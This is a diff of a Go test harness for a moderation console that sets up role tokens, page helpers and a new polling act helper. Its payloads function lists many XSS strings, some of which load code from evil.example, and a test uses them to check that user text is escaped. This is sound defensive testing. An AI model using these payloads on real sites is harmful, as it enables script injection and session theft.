@@ -31,26 +31,26 @@ import (
 	"github.com/tidings/tidings/tokens"
 )
 
-// tenant is the one that the harness's tenant tokens are of.
+// tenant is the tenant of the harness's tenant tokens.
 const tenant = 7
 
-// harness is a console with a database and a JetStream server of its own, and a token per sort of reader.
+// harness is a console with its own database and JetStream server, and a token for each role.
 type harness struct {
 	db   *testkit.DB
 	nats *testkit.Broker
-	pool *pgxpool.Pool // as the system role
+	pool *pgxpool.Pool // acts as the system role
 	conn *nats.Conn
 	js   jetstream.JetStream
 	url  string // http://HOST:PORT
 
 	console *console.Console
 	stop    context.CancelFunc // ends Run
-	streams atomic.Int64       // live pages that are sent now
+	streams atomic.Int64       // live pages that the server sends now
 
 	Tokens struct{ Reader, Moderator, Admin, TenantReader, TenantModerator, TenantAdmin string }
 }
 
-// start starts a console. change may alter its configuration.
+// start starts a console. change may change its configuration.
 func start(t *testing.T, change ...func(*console.Config, *console.Deps)) *harness {
 	t.Helper()
 	h := &harness{db: testkit.Postgres(t), nats: testkit.NATS(t)}
@@ -66,8 +66,11 @@ func start(t *testing.T, change ...func(*console.Config, *console.Deps)) *harnes
 		name   string
 		roles  []string
 	}{
-		{&h.Tokens.Reader, 0, "rea", []string{"read"}}, {&h.Tokens.Moderator, 0, "mo", []string{"read", "moderate"}}, {&h.Tokens.Admin, 0, "ada", []string{"read", "moderate", "admin"}},
-		{&h.Tokens.TenantReader, tenant, "rita", []string{"read"}}, {&h.Tokens.TenantModerator, tenant, "max", []string{"read", "moderate"}}, {&h.Tokens.TenantAdmin, tenant, "amy", []string{"read", "moderate", "admin"}},
+		{&h.Tokens.Reader, 0, "rea", []string{"read"}}, {&h.Tokens.Moderator, 0, "mo", []string{"read", "moderate"}},
+		{&h.Tokens.Admin, 0, "ada", []string{"read", "moderate", "admin"}},
+		{&h.Tokens.TenantReader, tenant, "rita", []string{"read"}},
+		{&h.Tokens.TenantModerator, tenant, "max", []string{"read", "moderate"}},
+		{&h.Tokens.TenantAdmin, tenant, "amy", []string{"read", "moderate", "admin"}},
 	} {
 		*who.token = tokens.New()
 		if err := tokens.Ensure(t.Context(), h.pool, who.tenant, who.name, *who.token, who.roles); err != nil {
@@ -78,8 +81,11 @@ func start(t *testing.T, change ...func(*console.Config, *console.Deps)) *harnes
 	if err := catalog.Load(t.Context()); err != nil {
 		t.Fatal(err)
 	}
-	cfg, deps := console.Config{On: true}, console.Deps{Truth: h.pool, Projections: h.pool, NATS: h.conn, JetStream: h.js, Broker: h.nats.Config(), Kinds: catalog, Fleet: []projections.Projection{followercounts.New(catalog.Now), threadcache.New(catalog.Now), history.New(catalog.Now)},
-		OwnerURL: h.db.URL, Postgres: postgres.Config{MaxConns: console.Conns, ConnectTimeout: 5 * time.Second, StatementTimeout: time.Minute}, Keys: [][]byte{bytes.Repeat([]byte{1}, 32)}, Log: testkit.Logger(t)}
+	cfg, deps := console.Config{On: true}, console.Deps{Truth: h.pool, Projections: h.pool, NATS: h.conn, JetStream: h.js,
+		Broker: h.nats.Config(), Kinds: catalog, Fleet: []projections.Projection{followercounts.New(catalog.Now),
+			threadcache.New(catalog.Now), history.New(catalog.Now)},
+		OwnerURL: h.db.URL, Postgres: postgres.Config{MaxConns: console.Conns, ConnectTimeout: 5 * time.Second,
+			StatementTimeout: time.Minute}, Keys: [][]byte{bytes.Repeat([]byte{1}, 32)}, Log: testkit.Logger(t)}
 	for _, c := range change {
 		c(&cfg, &deps)
 	}
@@ -110,7 +116,7 @@ func start(t *testing.T, change ...func(*console.Config, *console.Deps)) *harnes
 	return h
 }
 
-// reader is somebody at the console, without a browser.
+// reader is a client of the console without a browser.
 type reader struct {
 	t      *testing.T
 	h      *harness
@@ -127,7 +133,7 @@ func (h *harness) signIn(t *testing.T, token string) *reader {
 	return r
 }
 
-// visitor is somebody who has not signed in.
+// visitor returns a reader without a session.
 func (h *harness) visitor(t *testing.T) *reader {
 	t.Helper()
 	jar, err := cookiejar.New(nil)
@@ -139,11 +145,11 @@ func (h *harness) visitor(t *testing.T) *reader {
 	return &reader{t, h, &http.Client{Jar: jar, Transport: transport}}
 }
 
-// answer is a page as it came.
+// answer is the answer to a request.
 type answer struct {
 	t      *testing.T
 	status int
-	path   string // and query, behind redirects
+	path   string // with the query, after redirects
 	header http.Header
 	body   string
 	doc    *html.Node
@@ -186,7 +192,7 @@ func (r *reader) do(req *http.Request) *answer {
 	return &answer{r.t, res.StatusCode, res.Request.URL.RequestURI(), res.Header, string(b), doc}
 }
 
-// page gets a page, which must be there and have nothing inline.
+// page opens a page. It fails the test if the page is missing or has inline code.
 func page(t *testing.T, r *reader, path string) *answer {
 	t.Helper()
 	a := r.get(path)
@@ -195,7 +201,8 @@ func page(t *testing.T, r *reader, path string) *answer {
 	}
 	for n := range a.doc.Descendants() {
 		for _, at := range n.Attr {
-			if at.Key == "style" || strings.HasPrefix(at.Key, "on") || strings.HasPrefix(strings.TrimSpace(strings.ToLower(at.Val)), "javascript:") {
+			if at.Key == "style" || strings.HasPrefix(at.Key, "on") ||
+				strings.HasPrefix(strings.TrimSpace(strings.ToLower(at.Val)), "javascript:") {
 				t.Errorf("%s: <%s> has the attribute %s=%q, which the policy forbids", path, n.Data, at.Key, at.Val)
 			}
 		}
@@ -208,7 +215,7 @@ func page(t *testing.T, r *reader, path string) *answer {
 
 var spaces = regexp.MustCompile(`\s+`)
 
-// text is what the page's main part says, on one line.
+// text returns the text of the page's main part on one line.
 func (a *answer) text() string {
 	var b strings.Builder
 	for n := range a.first("main").Descendants() {
@@ -220,7 +227,7 @@ func (a *answer) text() string {
 	return strings.TrimSpace(spaces.ReplaceAllString(b.String(), " "))
 }
 
-// first is the first element of the tag, the document without one.
+// first returns the first element with the tag, or the document if there is none.
 func (a *answer) first(tag string) *html.Node {
 	for n := range a.doc.Descendants() {
 		if n.Type == html.ElementNode && n.Data == tag {
@@ -230,19 +237,19 @@ func (a *answer) first(tag string) *html.Node {
 	return a.doc
 }
 
-// says fails unless the page says all of it.
+// says fails the test unless the page shows each text.
 func (a *answer) says(all ...string) *answer {
 	a.t.Helper()
 	text := a.text()
 	for _, s := range all {
 		if !strings.Contains(text, s) {
-			a.t.Errorf("%s does not say %q: %.2000s", a.path, s, text)
+			a.t.Errorf("%s does not show %q: %.2000s", a.path, s, text)
 		}
 	}
 	return a
 }
 
-// without fails if the page has any of it, in text or markup.
+// without fails the test if the page has one of the texts, even in its markup.
 func (a *answer) without(none ...string) *answer {
 	a.t.Helper()
 	for _, s := range none {
@@ -262,7 +269,7 @@ func attr(n *html.Node, name string) string {
 	return ""
 }
 
-// link is where the first link with the text leads; the test fails without one.
+// link returns the target of the first link with the text. Without one it fails the test.
 func (a *answer) link(text string) string {
 	a.t.Helper()
 	for n := range a.doc.Descendants() {
@@ -274,7 +281,7 @@ func (a *answer) link(text string) string {
 	return ""
 }
 
-// form is what the page's act form would send, filled in (name, value, ...).
+// form returns the input of the page's act form, with the given values (name, value, ...).
 func (a *answer) form(pairs ...string) url.Values {
 	in := url.Values{}
 	for n := range a.first("main").Descendants() {
@@ -296,27 +303,55 @@ func (a *answer) form(pairs ...string) url.Values {
 	return in
 }
 
-// act confirms an act from the link that leads to its form, and returns the page of its outcome.
-func (r *reader) act(link string, pairs ...string) *answer {
+// begin opens an act's form by its link, confirms it, and returns the page of the outcome.
+func (r *reader) begin(link string, pairs ...string) *answer {
 	r.t.Helper()
 	form := page(r.t, r, link)
 	return r.post(strings.SplitN(link, "?", 2)[0], form.form(append([]string{"reason", "because the test says so"}, pairs...)...))
 }
 
-// payloads are texts that would run in a page which does not escape them, each in its way. A page that shows what people wrote is tested with them
-// (TestNothingThatPeopleWriteRuns): <i id=XN> stands in the page, or a script sets window.XN, when one gets through.
+// act begins an act and returns its page when the act has ended.
+func (r *reader) act(link string, pairs ...string) (a *answer) {
+	r.t.Helper()
+	a = r.begin(link, pairs...)
+	testkit.Eventually(r.t, 30*time.Second, "the act to end", func() (bool, error) {
+		ended := !strings.Contains(a.text(), "under way")
+		if !ended {
+			a = page(r.t, r, a.path)
+		}
+		return ended, nil
+	})
+	return a
+}
+
+// payloads returns texts that would run in a page that does not escape them. Tests of pages that show text of people
+// use them (TestNothingThatPeopleWriteRuns). If one gets through, the page contains <i id=XN>, or a script sets
+// window.XN.
 func payloads() (all []string) {
 	for i, p := range []string{
-		`<script>window.XSS=1</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `"><script>window.XSS=1</script>`, `'><script>window.XSS=1</script>`, `</title><script>window.XSS=1</script>`,
-		`</textarea><script>window.XSS=1</script>`, `</script><script>window.XSS=1</script>`, `<img src=x onerror=window.XSS=1>`, `"><img src=x onerror=window.XSS=1>`, `<svg onload=window.XSS=1>`,
-		`<svg><script>window.XSS=1</script></svg>`, `<svg><animate onbegin=window.XSS=1 attributeName=x dur=1s>`, `<body onload=window.XSS=1>`, `<iframe src="javascript:window.parent.XSS=1"></iframe>`, `<iframe srcdoc="<script>parent.XSS=1</script>"></iframe>`,
-		`<a href="javascript:window.XSS=1" id=a autofocus onfocus=window.XSS=1>x</a>`, `<input autofocus onfocus=window.XSS=1>`, `<select autofocus onfocus=window.XSS=1>`, `<textarea autofocus onfocus=window.XSS=1>`, `<details open ontoggle=window.XSS=1>`,
-		`<video><source onerror=window.XSS=1></video>`, `<audio src=x onerror=window.XSS=1>`, `<object data="javascript:window.XSS=1">`, `<embed src="javascript:window.XSS=1">`, `<math><mi xlink:href="javascript:window.XSS=1">x</mi></math>`,
-		`<form action="javascript:window.XSS=1"><button>x`, `<button formaction="javascript:window.XSS=1">x`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';</style>`, `<style>*{display:none}</style>`,
-		`<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`, `" onmouseover="window.XSS=1" autofocus onfocus="window.XSS=1`, `' onfocus='window.XSS=1' autofocus='`, "` onfocus=window.XSS=1 autofocus `",
+		`<script>window.XSS=1</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `"><script>window.XSS=1</script>`,
+		`'><script>window.XSS=1</script>`, `</title><script>window.XSS=1</script>`,
+		`</textarea><script>window.XSS=1</script>`, `</script><script>window.XSS=1</script>`, `<img src=x onerror=window.XSS=1>`,
+		`"><img src=x onerror=window.XSS=1>`, `<svg onload=window.XSS=1>`,
+		`<svg><script>window.XSS=1</script></svg>`, `<svg><animate onbegin=window.XSS=1 attributeName=x dur=1s>`,
+		`<body onload=window.XSS=1>`, `<iframe src="javascript:window.parent.XSS=1"></iframe>`,
+		`<iframe srcdoc="<script>parent.XSS=1</script>"></iframe>`,
+		`<a href="javascript:window.XSS=1" id=a autofocus onfocus=window.XSS=1>x</a>`, `<input autofocus onfocus=window.XSS=1>`,
+		`<select autofocus onfocus=window.XSS=1>`, `<textarea autofocus onfocus=window.XSS=1>`, `<details open ontoggle=window.XSS=1>`,
+		`<video><source onerror=window.XSS=1></video>`, `<audio src=x onerror=window.XSS=1>`, `<object data="javascript:window.XSS=1">`,
+		`<embed src="javascript:window.XSS=1">`, `<math><mi xlink:href="javascript:window.XSS=1">x</mi></math>`,
+		`<form action="javascript:window.XSS=1"><button>x`, `<button formaction="javascript:window.XSS=1">x`,
+		`<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';</style>`,
+		`<style>*{display:none}</style>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`,
+		`" onmouseover="window.XSS=1" autofocus onfocus="window.XSS=1`, `' onfocus='window.XSS=1' autofocus='`,
+		"` onfocus=window.XSS=1 autofocus `",
 		`javascript:window.XSS=1`, `data:text/html,<script>parent.XSS=1</script>`, `{{.}}`, `{{template "layout" .}}`, `${window.XSS=1}`,
-		`<!--><img src=x onerror=window.XSS=1>`, `<![CDATA[<script>window.XSS=1</script>]]>`, `&lt;script&gt;window.XSS=1&lt;/script&gt;`, `%3Cscript%3Ewindow.XSS=1%3C/script%3E`, "\u003cscript\u003ewindow.XSS=1\u003c/script\u003e",
-		"<scr\tipt>window.XSS=1</scr\tipt>", `<img/src="x"/onerror=window.XSS=1>`, `<div hx-get="/console/audit" hx-trigger="load" hx-on:htmx:load="window.XSS=1">x</div>`, `<div data-hx-on:load="window.XSS=1" hx-trigger="load" hx-get="/console/tokens">x</div>`, `<div hx-sse:connect="/console/live/overview" hx-swap="innerHTML">x</div>`,
+		`<!--><img src=x onerror=window.XSS=1>`, `<![CDATA[<script>window.XSS=1</script>]]>`, `&lt;script&gt;window.XSS=1&lt;/script&gt;`,
+		`%3Cscript%3Ewindow.XSS=1%3C/script%3E`, "\u003cscript\u003ewindow.XSS=1\u003c/script\u003e",
+		"<scr\tipt>window.XSS=1</scr\tipt>", `<img/src="x"/onerror=window.XSS=1>`,
+		`<div hx-get="/console/audit" hx-trigger="load" hx-on:htmx:load="window.XSS=1">x</div>`,
+		`<div data-hx-on:load="window.XSS=1" hx-trigger="load" hx-get="/console/tokens">x</div>`,
+		`<div hx-sse:connect="/console/live/overview" hx-swap="innerHTML">x</div>`,
 		`<template><script>window.XSS=1</script></template><script>window.XSS=1</script>`, "\u202e\u2066<script>window.XSS=1</script>",
 	} {
 		all = append(all, fmt.Sprintf("%d %s<i id=X%d>", i, p, i))
